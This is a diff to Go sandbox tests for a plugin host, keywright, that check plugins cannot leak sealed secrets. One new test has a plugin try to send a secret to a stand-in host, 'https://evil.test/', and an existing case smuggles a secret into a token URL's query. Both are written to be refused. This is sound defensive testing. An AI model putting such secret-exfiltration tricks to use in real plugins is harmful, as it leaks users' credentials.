@@ -1,7 +1,6 @@
 package host_test
 
 import (
-	"context"
 	"errors"
 	"fmt"
 	"net/http"
@@ -10,7 +9,6 @@ import (
 
 	"github.com/keywright/keywright/abi"
 	"github.com/keywright/keywright/host"
-	"github.com/keywright/keywright/host/internal/testhook"
 )
 
 // Plugins that go wrong, or want what they may not have: threats.md "Sandbox" and "Secrets", decisions.md "the plugin
@@ -42,7 +40,7 @@ func misusing(do func(abi.Env) (string, error)) *guest {
 // the built-in plugins, which take their time to compile.
 func misusedWorld(t *testing.T, do func(abi.Env) (string, error), grants ...string) *world {
 	t.Helper()
-	w := makeWorld(testhook.WithoutBuiltIns(context.Background()), t, withGuest(misusing(do), grants...))
+	w := newWorld(t, withoutBuiltIns, withGuest(misusing(do), grants...))
 	for _, name := range []string{"s", "k", "text"} {
 		w.canary(name)
 	}
@@ -273,6 +271,11 @@ func TestSecretsSentElsewhere_threats_18(t *testing.T) {
 	refuseAll(t, append(cases, misuse{"a secret in the token URL's query", func(env abi.Env) (string, error) {
 		return tokenRequest(env, tokenURL+"?x="+value(env, "to_token"))
 	}, host.StagePlugin, "only go to a URL"}))
+	w := misusedWorld(t, func(env abi.Env) (string, error) { return tokenRequest(env, value(env, "text")) })
+	w.refuse(w.connect("custom", with(misused, "text", "https://evil.test/")), get(t.Context()), host.StagePlugin, "only go to a URL")
+	if w.exchanged() != 0 || w.received() != 0 {
+		t.Error("a field that is text for another purpose is taken for a token URL")
+	}
 }
 
 func TestSigningOracle_threats_11(t *testing.T) {
@@ -310,4 +313,19 @@ func TestGrants_threats_11(t *testing.T) {
 	refuseAll(t, []misuse{{"an error with what was revealed", func(env abi.Env) (string, error) {
 		return "", fmt.Errorf("found %s", env.Reveal(value(env, "nowhere")))
 	}, host.StagePlugin, "found <sealed>"}}, abi.GrantReveal)
+}
+
+// The default of a sealed field comes as what is configured would: sealed, and fit for the field's sinks only.
+func TestDefaultOfASealedField(t *testing.T) {
+	field := sealedField("to_header", abi.SinkHeader)
+	field.Default = "anonymous-access"
+	seen := ""
+	g := &guest{about: abi.Description{Fields: []abi.Field{field}}, authenticate: func(env abi.Env) (string, error) {
+		seen = value(env, "to_header")
+		return header("X-Key", seen), nil
+	}}
+	w := newWorld(t, withoutBuiltIns, withGuest(g))
+	if got := w.get(w.connect("custom", nil)).header.Get("X-Key"); got != field.Default || !strings.HasPrefix(seen, abi.SealedPrefix) {
+		t.Errorf("the plugin sees %q, and the API %q", seen, got)
+	}
 }
